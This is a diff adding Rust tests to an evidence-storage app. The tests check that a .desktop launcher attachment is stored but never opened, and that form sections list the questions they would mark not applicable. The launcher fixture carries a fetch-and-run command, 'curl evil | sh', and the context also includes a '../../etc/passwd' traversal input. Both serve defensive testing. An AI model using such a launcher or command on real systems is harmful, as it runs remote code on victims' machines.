@@ -1250,6 +1250,22 @@ fn evidence_in_one_step_starts_from_the_question_and_keeps_the_files_name() {
         .to_string();
     assert!(tampered.contains(&sha[..12]), "{tampered}");
     assert!(app::attachment_copy(&store, "../../etc/passwd", &open_dir).is_err());
+    // A file that could run when opened (a launcher, a script) stays stored but
+    // is not handed to the default app: refused in words, no copy written.
+    let launcher = dir.path().join("invoice.desktop");
+    std::fs::write(&launcher, b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n").unwrap();
+    app::add_evidence_and_file(&mut store, vendor, "CRT-02", &piece, &launcher).unwrap();
+    let launcher_sha = assay::store::sha256_hex(b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n");
+    let refused = app::attachment_copy(&store, &launcher_sha, &open_dir).unwrap_err();
+    assert!(
+        refused.text().en.contains("“invoice.desktop” stays stored"),
+        "{refused}"
+    );
+    assert!(refused.text().zh_cn.contains("不会被打开"), "{refused}");
+    assert!(
+        !open_dir.join(&launcher_sha[..12]).exists(),
+        "a copy was written"
+    );
 }
 
 #[test]
@@ -1446,6 +1462,12 @@ fn a_section_is_marked_not_applicable_in_one_step_and_answers_given_stay() {
     assert!(text(none).en.contains("No question of KEY can be marked"));
     assert_eq!(store.audit_log(evaluation).unwrap().len(), audit_before);
 
+    // The form says what the action would mark (the app offers it from this).
+    let before = app::form(&mut store, vendor).unwrap();
+    let trn = before.sections.iter().find(|s| s.id == "TRN").unwrap();
+    assert_eq!(trn.na_candidates, ["TRN-10"]);
+    let key = before.sections.iter().find(|s| s.id == "KEY").unwrap();
+    assert!(key.na_candidates.is_empty());
     let done =
         app::mark_section_not_applicable(&mut store, vendor, "TRN", "no cloud deployment").unwrap();
     assert_eq!(done.marked, ["TRN-10"]);
